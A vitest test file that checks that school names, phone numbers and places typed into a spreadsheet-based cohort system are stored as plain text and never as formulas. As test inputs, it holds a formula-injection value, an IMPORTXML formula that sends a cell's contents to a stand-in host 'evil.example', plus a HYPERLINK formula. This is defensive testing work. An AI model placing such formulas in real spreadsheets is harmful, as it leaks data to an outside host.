/** A formula, an import from elsewhere or a telephone number, typed as text by somebody: it stays a text wherever it goes. */
import { expect, test } from 'vitest';
import { smallCohort } from './small-cohort.ts';

const spreadsheet = 'small-cohort';
const name = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
const phone = '+44 20 7946 0000';

test('what a school typed is text in the rows and views that the software writes, and no formula is among them', async () => {
  const cohort = await smallCohort({ from: '2027-06-07', threads: ['event-3'] });
  await cohort.typeInto('Schools', '900103', 'School', name);
  await cohort.typeInto('Trios', 'T1', 'School 3', name);
  await cohort.typeInto('Schools', '900103', 'Phone', phone);
  await cohort.typeInto('Events', 'event-3', 'Place', '=HYPERLINK("https://evil.example")');
  const [, ...attendance] = await cohort.desk.read('Attendance');
  for (const _row of attendance) await cohort.desk.deleteRow('Attendance', 2);
  // Nobody answers, so that the school is to be rung.
  await cohort.until('2027-06-30');
  const added = cohort.runtime.sheets.values(spreadsheet, 'Attendance').map(([school]) => school);
  expect(added.filter((school) => school === name)).toHaveLength(3);
  const shown = (tab: string) => cohort.runtime.sheets.values(spreadsheet, tab).flat();
  expect(shown('Tracker')).toContain(name);
  expect(shown('Deadlines')).toContain('=HYPERLINK("https://evil.example")');
  expect(shown('Actions').filter((cell) => String(cell).endsWith(phone))).not.toEqual([]);
  const cells = (cohort.runtime.sheets.snapshot(spreadsheet).sheets ?? []).flatMap(({ data }) =>
    (data?.[0]?.rowData ?? []).flatMap(({ values }) => values ?? []),
  );
  expect(cells.length).toBeGreaterThan(500);
  expect(cells.filter(({ userEnteredValue }) => userEnteredValue?.formulaValue !== undefined)).toEqual([]);
});
